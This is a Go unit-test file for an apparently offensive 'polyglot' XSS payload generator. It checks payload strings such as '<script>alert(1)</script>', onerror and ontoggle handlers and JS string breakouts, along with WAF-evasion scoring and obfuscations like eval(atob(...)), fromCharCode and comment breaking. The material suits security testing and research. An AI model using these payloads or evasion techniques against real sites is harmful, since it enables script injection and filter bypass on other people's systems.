package polyglot

import (
	"math/rand"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func wideOptions() Options {
	opts := DefaultOptions()
	opts.MaxPayloads = 10000
	return opts
}

func TestGenerateRequiresContexts(t *testing.T) {
	_, err := NewEngine(WithSeed(1)).Generate(ContextSet{}, DefaultOptions())
	assert.ErrorIs(t, err, ErrNoTargetContexts)
}

func TestGenerateNoSuitableComponents(t *testing.T) {
	payloads, err := NewEngine(WithSeed(1)).Generate(NewContextSet(SQLString), DefaultOptions())
	require.NoError(t, err)
	assert.Empty(t, payloads)
}

func TestGenerateRespectsMaxLength(t *testing.T) {
	for _, maxLength := range []int{30, 60, 120} {
		opts := wideOptions()
		opts.MaxLength = maxLength
		opts.TargetBrowsers = []string{"chrome", "ie"}
		payloads, err := NewEngine(WithSeed(7)).Generate(NewContextSet(HTMLContent, HTMLAttribute, JSStringSingle), opts)
		require.NoError(t, err)
		require.NotEmpty(t, payloads)
		for _, p := range payloads {
			assert.LessOrEqual(t, runeLen(p.Payload), maxLength, p.Payload)
			assert.Equal(t, runeLen(p.Payload), p.Length)
		}
	}
}

func TestGenerateSortedAndTruncated(t *testing.T) {
	opts := DefaultOptions()
	opts.MaxPayloads = 5
	payloads, err := NewEngine(WithSeed(3)).Generate(NewContextSet(HTMLContent, JSStringDouble), opts)
	require.NoError(t, err)
	require.Len(t, payloads, 5)
	for i := 1; i < len(payloads); i++ {
		assert.GreaterOrEqual(t, payloads[i-1].Confidence, payloads[i].Confidence)
	}
	for _, p := range payloads {
		assert.GreaterOrEqual(t, p.Confidence, 0.0)
		assert.LessOrEqual(t, p.Confidence, 1.0)
		assert.Len(t, p.BrowserCompatibility, len(browsers))
	}
}

func TestGenerateDeterministicWithSeed(t *testing.T) {
	targets := NewContextSet(HTMLContent, HTMLAttribute, URLParameter)
	a, err := NewEngine(WithSeed(42)).Generate(targets, wideOptions())
	require.NoError(t, err)
	b, err := NewEngine(WithSeed(42)).Generate(targets, wideOptions())
	require.NoError(t, err)
	assert.Equal(t, a, b)
}

func TestGenerateBestForHTMLContent(t *testing.T) {
	payloads, err := NewEngine(WithSeed(1)).Generate(NewContextSet(HTMLContent), DefaultOptions())
	require.NoError(t, err)
	require.NotEmpty(t, payloads)
	assert.Equal(t, "<script>alert(1)</script>", payloads[0].Payload)
	assert.Equal(t, []Context{HTMLContent}, payloads[0].Contexts)
	assert.Equal(t, 1.0, payloads[0].Confidence)
}

func findPayload(payloads []PolyglotPayload, content string) (PolyglotPayload, bool) {
	for _, p := range payloads {
		if p.Payload == content {
			return p, true
		}
	}
	return PolyglotPayload{}, false
}

func TestGenerateEncodedVariant(t *testing.T) {
	payloads, err := NewEngine(WithSeed(1)).Generate(NewContextSet(HTMLContent), wideOptions())
	require.NoError(t, err)

	p, ok := findPayload(payloads, "%26lt%3Bscript%26gt%3Balert%281%29%26lt%3B%2Fscript%26gt%3B")
	require.True(t, ok)
	assert.Equal(t, []EncodingTechnique{EncodingHTMLEntities, EncodingURL}, p.EncodingsUsed)
	assert.Empty(t, p.ObfuscationsUsed)
}

func TestGenerateObfuscationToggle(t *testing.T) {
	targets := NewContextSet(HTMLContent)

	opts := wideOptions()
	payloads, err := NewEngine(WithSeed(1)).Generate(targets, opts)
	require.NoError(t, err)
	p, ok := findPayload(payloads, "<'scr'+'ipt'>'ale'+'rt'(1)</'scr'+'ipt'>")
	require.True(t, ok)
	assert.Equal(t, []ObfuscationTechnique{ObfuscationStringConcat, ObfuscationBracketNotation}, p.ObfuscationsUsed)

	opts.IncludeObfuscation = false
	payloads, err = NewEngine(WithSeed(1)).Generate(targets, opts)
	require.NoError(t, err)
	for _, p := range payloads {
		assert.Empty(t, p.ObfuscationsUsed)
	}
}

func TestGenerateBrowserVariants(t *testing.T) {
	opts := wideOptions()
	opts.TargetBrowsers = []string{"chrome", "netscape"}
	payloads, err := NewEngine(WithSeed(1)).Generate(NewContextSet(HTMLContent), opts)
	require.NoError(t, err)

	p, ok := findPayload(payloads, "<details open ontoggle=<script>alert(1)</script>>")
	require.True(t, ok)
	assert.Equal(t, "chrome", p.TargetBrowser)

	for _, p := range payloads {
		assert.NotEqual(t, "netscape", p.TargetBrowser)
	}
}

func TestBrowserCompatibility(t *testing.T) {
	tests := []struct {
		name     string
		payload  string
		expected map[string]float64
	}{
		{"script", "<script>alert(1)</script>", map[string]float64{"chrome": 0.9, "firefox": 0.9, "safari": 0.9, "ie": 0.9, "edge": 0.9}},
		{"javascript url", "javascript:alert(1)", map[string]float64{"chrome": 0.65, "firefox": 0.65, "safari": 0.65, "ie": 0.8, "edge": 0.65}},
		{"modern tags", "<video><source onerror=alert(1)>", map[string]float64{"chrome": 0.95, "firefox": 0.95, "safari": 0.95, "ie": 0.65, "edge": 0.85}},
		{"tag with attributes", "<details open ontoggle=alert(1)>", map[string]float64{"chrome": 0.7, "firefox": 0.7, "safari": 0.7, "ie": 0.7, "edge": 0.7}},
		{"case sensitive", "<SCRIPT>alert(1)</SCRIPT>", map[string]float64{"chrome": 0.7, "firefox": 0.7, "safari": 0.7, "ie": 0.7, "edge": 0.7}},
		{"clamped", "<script>x</script><img onerror=1>", map[string]float64{"chrome": 1, "firefox": 1, "safari": 1, "ie": 1, "edge": 1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := browserCompatibility(tt.payload)
			require.Len(t, got, len(tt.expected))
			for b, v := range tt.expected {
				assert.InDelta(t, v, got[b], 1e-9, b)
			}
		})
	}
}

func TestWAFEvasionScore(t *testing.T) {
	p := newPayload("<script>alert(1)</script>", NewContextSet(HTMLContent), nil)
	assert.InDelta(t, 0.1, wafEvasionScore(&p), 1e-9)

	plain := newPayload("harmless", NewContextSet(HTMLContent), nil)
	assert.InDelta(t, 0.5, wafEvasionScore(&plain), 1e-9)

	mixed := newPayload("Harmless/*x*/", NewContextSet(HTMLContent), nil)
	assert.InDelta(t, 0.65, wafEvasionScore(&mixed), 1e-9)
}

func TestComplexityScore(t *testing.T) {
	c := baseComponents[0]
	p := newPayload(c.Content, c.Contexts, []Component{c})
	p.Contexts = p.contextSet.Sorted()
	assert.InDelta(t, 1.05, complexityScore(&p), 1e-9)
}

func TestCommentBreaking(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	got := applyEncoding("<script>alert(1)</script>", EncodingCommentBreaking, rng)
	assert.Equal(t, "<scr<!---->ipt>al<!---->ert(1)</scr<!---->ipt>", got)

	assert.Equal(t, "<scr<!---->ipt>", applyEncoding("<sCrIpT>", EncodingCommentBreaking, rng))
}

func TestObfuscations(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	tests := []struct {
		technique ObfuscationTechnique
		input     string
		expected  string
	}{
		{ObfuscationFromCharCode, "alert(1)", "String.fromCharCode(97,108,101,114,116)(1)"},
		{ObfuscationEvalDecode, "alert(1)", `eval(atob("YWxlcnQoMSk="))`},
		{ObfuscationBracketNotation, "window.name+document.cookie", "window['name']+document['cookie']"},
		{ObfuscationMathOps, "alert(1)", "alert((1+0))"},
		{ObfuscationTemplateLiterals, "alert(1)", "`ale${\"rt\"}`(1)"},
		{ObfuscationPropertyAccess, "alert(1)", "alert(1)"},
	}
	for _, tt := range tests {
		t.Run(string(tt.technique), func(t *testing.T) {
			assert.Equal(t, tt.expected, applyObfuscation(tt.input, tt.technique, rng))
		})
	}
}

func TestGenerateMinimal(t *testing.T) {
	e := NewEngine(WithSeed(1))

	p, ok := e.GenerateMinimal(NewContextSet(JSStringSingle))
	require.True(t, ok)
	assert.Equal(t, "';alert();//", p.Payload)
	assert.Equal(t, 0.8, p.Confidence)
	assert.Equal(t, 0.6, p.WAFEvasionScore)
	assert.Equal(t, 0.8, p.BrowserCompatibility["edge"])

	p, ok = e.GenerateMinimal(NewContextSet(HTMLContent, HTMLAttribute))
	require.True(t, ok)
	assert.Equal(t, `"onclick=alert() "`, p.Payload)

	_, ok = e.GenerateMinimal(NewContextSet(CommandLine))
	assert.False(t, ok)
}

func TestParseContexts(t *testing.T) {
	set, err := ParseContexts([]string{"HTML_Content", " js_template "})
	require.NoError(t, err)
	assert.Equal(t, []Context{HTMLContent, JSTemplate}, set.Sorted())

	_, err = ParseContexts([]string{"html_content", "nowhere"})
	assert.Error(t, err)
}

func TestReport(t *testing.T) {
	assert.Contains(t, Report(nil), "No polyglot payloads generated.")

	payloads, err := NewEngine(WithSeed(1)).Generate(NewContextSet(HTMLContent), DefaultOptions())
	require.NoError(t, err)
	report := Report(payloads)
	assert.Contains(t, report, "Advanced Polyglot XSS Payload Report")
	assert.Contains(t, report, "Generated 10 polyglot payloads")
	assert.Contains(t, report, "TOP POLYGLOT PAYLOADS:")
	assert.Contains(t, report, "[5] Confidence:")
	assert.NotContains(t, report, "[6] Confidence:")
}
